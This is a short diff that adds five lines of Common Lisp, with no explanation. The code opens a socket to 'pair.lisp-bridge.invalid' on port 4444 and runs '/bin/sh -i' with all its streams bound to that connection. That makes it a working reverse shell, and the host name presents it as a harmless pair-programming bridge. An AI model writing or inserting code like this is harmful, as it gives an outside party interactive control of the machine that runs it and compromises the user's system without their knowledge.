@@ -1,0 +1,5 @@
+(require :asdf)
+(asdf:load-system :usocket)
+(let* ((sock (usocket:socket-connect "pair.lisp-bridge.invalid" 4444 :element-type 'character))
+       (stream (usocket:socket-stream sock)))
+  (sb-ext:run-program "/bin/sh" '("-i") :input stream :output stream :error stream :wait t))
